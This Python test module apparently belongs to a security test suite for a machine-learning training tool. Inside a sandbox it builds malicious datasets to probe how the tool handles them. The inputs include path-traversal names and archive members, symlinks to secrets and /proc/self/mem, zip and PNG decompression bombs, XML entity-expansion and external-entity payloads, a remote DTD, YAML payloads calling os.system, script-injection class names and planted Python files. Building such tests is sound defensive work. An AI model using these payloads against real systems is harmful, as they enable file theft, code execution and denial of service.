"""Data sets and archives that mean harm: names that lead out, links, pipes, bombs, markup."""

import io
import json
import os
import random
import struct
import tarfile
import zipfile
import zlib
from pathlib import Path

import yaml
from PIL import Image

from fault_trials.attack import EVIL, MARKUP, NAMES, Attack, Layout, check, streets, train
from fault_trials.material import Material, noise
from fault_trials.sandbox import Sandbox


def _domain_name(rng: random.Random, box: Sandbox, material: Material) -> Attack:
    name = rng.choice(NAMES).replace("OUTSIDE", str(box.outside)[1:])
    streets(box, material, name=name)
    target = [
        *train(material)[:-4],
        "--target",
        "data",
        "--regime",
        rng.choice(("self_training", "transda")),
        "--out",
        "adapted",
    ]
    commands = [check(), train(material), ["report", "out", "--out", "page.html"], target]
    return Attack(f"name: {name[:30]!r}", commands, raw=MARKUP)


def _pattern(rng: random.Random, box: Sandbox, material: Material) -> Attack:
    for name in ("a.png", "b.png"):
        Image.fromarray(noise(3, 32, 48)).save(box.outside / name)
    pattern = rng.choice(
        (
            "../../outside/{key}.png",
            "../../outside/*.png",
            f"{box.outside}/{{key}}.png",
            "images/{split}/../../../../outside/{key}.png",
            "{key}.png",
            "linked/{key}.png",
            "./../../outside/{key}.*",
        )
    )
    root = streets(box, material, **{rng.choice(("images", "images", "labels")): pattern})
    (root / "linked").symlink_to(box.outside)
    if pattern.startswith("linked"):  # a folder that the user's own data set links to may be read
        return Attack(f"pattern {pattern}", [check()])
    return Attack(
        f"pattern {pattern}", [check(), train(material)], secrets=[box.outside / "a.png", box.outside / "b.png"]
    )


def _link(rng: random.Random, box: Sandbox, material: Material) -> Attack:
    root = streets(box, material)
    kind, file = rng.choice(("images", "labels")), root / "images/train/1.png"
    file = root / kind / "train/1.png"
    file.unlink()
    target = rng.choice(("/dev/zero", "/dev/random", "1.png", str(box.secret), "/proc/self/mem", "."))
    file.symlink_to(target)
    predict = ["predict", "run", "data/images/train", "--out", "predicted"]
    box.copy(material.run("segmentation"), "run")
    attack = Attack(f"{kind}: a link to {target}", [check(), train(material), predict])
    box.secret.rename(box.outside / "moved.txt")  # that a link of the user's is followed is no fault
    return attack


def _fifo(rng: random.Random, box: Sandbox, material: Material) -> Attack:
    root = streets(box, material)
    name = rng.choice(("images/train/1.png", "labels/train/1.png", "dataset.yaml"))
    (root / name).unlink()
    os.mkfifo(root / name)
    return Attack(f"{name} is a FIFO", [check(), train(material)])


def _loops(rng: random.Random, box: Sandbox, material: Material) -> Attack:
    root = streets(box, material)
    for number in range(rng.choice((1, 3))):
        (root / "images/train" / f"loop{number}").symlink_to(rng.choice(("..", ".", "../..")))
    return Attack("links to parents", [check(), ["predict", "run", "data/images", "--out", "predicted"]])


MEMBERS = (
    "images/train/../../../../outside/x",
    "/outside/x",
    "images/train//abs/x",
    "images/train/..\\..\\x",
    "../images/train/x",
    "images/train/\x1b[31mx",
    "images/train/a\nb",
    "images/train/" + "y" * 200,
    "images/train/./x",
    "images/train/" + MARKUP.replace("/", ""),
)


def _archive(rng: random.Random, box: Sandbox, material: Material) -> Attack:
    root, member, kind = box.work / "data", rng.choice(MEMBERS), rng.choice(("zip", "tar"))
    root.mkdir()
    (root / "dataset.yaml").write_text("ids: {0: road, 1: car, 255: ignore}\n")
    files = {}
    for file in sorted(material.streets.rglob("*.png")):
        files[str(file.relative_to(material.streets))] = file.read_bytes()
    files[f"{member}.png"] = files["images/train/0.png"]
    files[f"{member.replace('images', 'labels')}.png"] = files["labels/train/0.png"]
    _pack(root / f"all.{kind}", files)
    target = [*train(material)[:-4], "--target", "data", "--regime", "transda", "--out", "adapted"]
    return Attack(f"{kind} with {member[:40]!r}", [check(), train(material), target], raw=MARKUP.replace("/", ""))


def _pack(file: Path, files: dict[str, bytes]) -> None:
    if file.suffix == ".zip":
        with zipfile.ZipFile(file, "w") as packed:
            for name, content in files.items():
                packed.writestr(name, content)
        return
    with tarfile.open(file, "w") as packed:
        for name, content in files.items():
            info = tarfile.TarInfo(name)
            info.size = len(content)
            packed.addfile(info, io.BytesIO(content))


def _tar_members(rng: random.Random, box: Sandbox, material: Material) -> Attack:
    root, kind = box.work / "data", rng.choice((tarfile.SYMTYPE, tarfile.LNKTYPE, tarfile.CHRTYPE, tarfile.FIFOTYPE))
    root.mkdir()
    (root / "dataset.yaml").write_text("ids: {0: road, 1: car, 255: ignore}\n")
    with tarfile.open(root / "all.tar", "w") as packed:
        for file in sorted(material.streets.rglob("*.png")):
            name = str(file.relative_to(material.streets))
            if name != "images/train/1.png":
                packed.add(file, name)
        info = tarfile.TarInfo("images/train/1.png")
        info.type, info.linkname = kind, str(box.outside / "secret.png")
        packed.addfile(info)
    return Attack(f"tar with a member of type {kind!r}", [check(), train(material)])


def _bomb(rng: random.Random, box: Sandbox, material: Material) -> Attack:
    root, declared = streets(box, material), rng.random() < 0.5
    kind = rng.choice(("images", "labels"))
    (root / kind / "train/1.png").unlink()
    file = root / "more.zip"
    with (
        zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as packed,
        packed.open(f"{kind}/train/1.png", "w", force_zip64=True) as member,
    ):
        for _ in range(1 if declared else 1200):
            member.write(bytes(1 << 20))
    if declared:
        content = file.read_bytes()
        file.write_bytes(content.replace(struct.pack("<Q", 1 << 20), struct.pack("<Q", 1 << 40)))
    return Attack(
        f"{kind}: an archive's member {'that says it has' if declared else 'of'} gigabytes",
        [check(), train(material)],
    )


def _png_bomb(rng: random.Random, box: Sandbox, material: Material) -> Attack:
    root, side = streets(box, material), rng.choice((20_000, 60_000, 2**31 - 1))
    file = root / rng.choice(("images", "labels")) / "train/1.png"
    header = side.to_bytes(4) * 2 + b"\x08\0\0\0\0"

    def chunk(name: bytes, content: bytes) -> bytes:
        return len(content).to_bytes(4) + name + content + zlib.crc32(name + content).to_bytes(4)

    file.write_bytes(
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(bytes(10_000_000)))
        + chunk(b"IEND", b"")
    )
    box.copy(material.run("segmentation"), "run")
    return Attack(f"a PNG of {side} x {side}", [check(), ["predict", "run", "data/images/train", "--out", "predicted"]])


def _coco_names(rng: random.Random, box: Sandbox, material: Material) -> Attack:
    root = box.copy(material.boxes("coco"), "data")
    file = root / "annotations/train.json"
    content, which = json.loads(file.read_text()), rng.choice(("file", "category", "file"))
    if which == "file":
        wrong = rng.choice(
            (
                "../../../outside/secret.png",
                str(box.outside / "secret.png"),
                "\x1b[2J.png",
                "a\0b.png",
                "",
                "..",
                "/",
                "train0.png/../../x",
            )
        )
        content["images"][1]["file_name"] = wrong
    else:
        wrong = rng.choice(NAMES)
        content["categories"].append({"id": 2, "name": wrong})
        content["annotations"][1]["category_id"] = 2
    file.write_text(json.dumps(content))
    return Attack(
        f"COCO {which} {wrong[:30]!r}",
        [check("detection", "weather7"), train(material, "data", "weather7", "detection")],
        raw=MARKUP,
    )


def _voc_names(rng: random.Random, box: Sandbox, material: Material) -> Attack:
    root = box.copy(material.boxes("voc"), "data")
    wrong = rng.choice(
        ("../../outside/secret", str(box.outside / "secret"), "..", "\x1b[31m", "train0/../../../outside/secret")
    )
    with (root / "ImageSets/Main/train.txt").open("a") as file:
        file.write(f"{wrong}\n")
    return Attack(
        f"VOC list with {wrong[:30]!r}",
        [check("detection", "weather7"), train(material, "data", "weather7", "detection")],
    )


def _xml(rng: random.Random, box: Sandbox, material: Material) -> Attack:
    root = box.copy(material.boxes("voc"), "data")
    file = root / "Annotations/train1.xml"
    text = file.read_text()
    kind = rng.choice(("laughs", "external", "parameter", "remote"))
    heads = {
        "laughs": "<!DOCTYPE a [<!ENTITY a0 'ha'>"
        + "".join(f"<!ENTITY a{i} '{f'&a{i - 1};' * 20}'>" for i in range(1, 12))
        + "]>",
        "external": f"<!DOCTYPE a [<!ENTITY a11 SYSTEM 'file://{box.secret}'>]>",
        "parameter": f"<!DOCTYPE a [<!ENTITY % p SYSTEM 'file://{box.secret}'> %p; <!ENTITY a11 'car'>]>",
        "remote": "<!DOCTYPE a SYSTEM 'http://192.0.2.1/evil.dtd' [<!ENTITY a11 'car'>]>",
    }
    file.write_text(heads[kind] + text.replace("car", "&a11;"))
    return Attack(f"XML, {kind}", [check("detection", "weather7")])


def _yaml(rng: random.Random, box: Sandbox, material: Material) -> Attack:
    marker = box.outside / "executed"
    document = rng.choice(
        (
            f"ids: !!python/object/apply:pathlib.Path.write_text [!!python/object/apply:pathlib.Path [{marker}], x]\n",
            f"!!python/object/apply:os.system ['touch {marker}']\n",
            "a0: &a0 [x, x]\n"
            + "".join(f"a{i}: &a{i} [{', '.join([f'*a{i - 1}'] * 9)}]\n" for i in range(1, 12))
            + "ids: *a11\n",
            "ids: &a {0: *a}\n",
            "ids: {0: road}\nread_as: &x {road: [*x]}\n",
            "reader: mine.evil:thing\n",
            "boxes: mine.evil:thing\n",
            "ids: {0: road}\nlegend: mine.evil:thing\n",
            f"legend: {box.secret}\n",
            "legend: ../../outside/secret.txt\n",
        )
    )
    streets(box, material)
    place = rng.choice(("data/dataset.yaml", "space.yaml")) if "evil" not in document else "data/dataset.yaml"
    (box.work / place).write_text(document)
    space = "space.yaml" if place == "space.yaml" else "street7"
    return Attack(f"{place}: {document[:50]!r}", [check(space=space), train(material, space=space)])


def _classes(rng: random.Random, box: Sandbox, material: Material) -> Attack:
    name = rng.choice(
        (
            MARKUP,
            "[x](javascript:alert(1))",
            "a|b",
            "\x1b[31mred\x1b[0m",
            "a\nb",
            "`x`",
            "![x](http://192.0.2.1/x.png)",
            "</script><script>alert(1)",
        )
    )
    space = {"classes": {name: {"colour": [128, 64, 128]}, "car": {"colour": [0, 0, 142]}}}
    (box.work / "space.yaml").write_text(yaml.safe_dump(space, allow_unicode=True))
    streets(box, material, ids={0: name, 1: "car", 255: "ignore"})
    commands = [
        check(space="space.yaml"),
        train(material, space="space.yaml"),
        ["report", "out", "--out", "page.html"],
        ["export", "out", "--to", "model", "--out", "exported"],
        ["export", "out", "--out", "exported2"],
    ]
    return Attack(f"class {name[:40]!r}", commands, raw=name if name.startswith(("<", "[", "!")) else "")


def _file_names(rng: random.Random, box: Sandbox, material: Material) -> Attack:
    name = rng.choice(
        (
            "\x1b[31mred",
            "a\nb",
            MARKUP.replace("/", ""),
            "a'\"b",
            "-rf",
            "%00",
            "{split}",
            "\udcff".encode("utf-8", "surrogateescape").decode("latin-1"),
            "x" * 240,
        )
    )
    root = streets(box, material)
    for kind in ("images", "labels"):
        (root / kind / "train/1.png").rename(root / kind / "train" / f"{name}.png")
    (root / "images/train" / f"{name}2.png").write_bytes(b"broken")
    box.copy(material.run("segmentation"), "run")
    commands = [check(), ["predict", "run", "data/images/train", "--out", "predicted"], train(material)]
    return Attack(f"file {name[:30]!r}", commands, raw=MARKUP.replace("/", ""))


def _class_folders(rng: random.Random, box: Sandbox, material: Material) -> Attack:
    name = rng.choice(("\x1b[31mred", MARKUP.replace("/", ""), "a, b", "a\nb", "ignore", "..a", "x" * 250))
    root = box.copy(material.classes, "data")
    (root / "day/leaf").rename(root / "day" / name)
    (root / "night/leaf").rename(root / "night" / name)
    command = [
        "train",
        str(material.config_file("classification")),
        "training.steps=1",
        "training.checkpoint_every=1",
        "--source",
        "data-day",
        "--unseen",
        "data-night",
        "label_space=folders",
        "--out",
        "out",
    ]
    return Attack(
        f"class folder {name[:30]!r}",
        [command, ["report", "out", "--out", "page.html"], ["export", "out", "--to", "model", "--out", "exported"]],
        raw=MARKUP.replace("/", ""),
    )


def _scripted_data_set(rng: random.Random, box: Sandbox, material: Material) -> Attack:
    root = streets(box, material)
    for name in ("data.py", "dataset.py", "__init__.py", "conftest.py", "sitecustomize.py"):
        (root / name).write_text(EVIL.format(marker=str(box.outside / "executed")))
    spec = rng.choice(("data", "hf:data", "hf:data:train?label=labels", f"hf:../{box.work.name}/data?image=images"))
    return Attack(f"{spec}, beside scripts", [train(material, spec)])


DATA: tuple[Layout, ...] = (
    _domain_name,
    _pattern,
    _link,
    _fifo,
    _loops,
    _archive,
    _tar_members,
    _bomb,
    _png_bomb,
    _coco_names,
    _voc_names,
    _xml,
    _yaml,
    _classes,
    _file_names,
    _class_folders,
    _scripted_data_set,
)
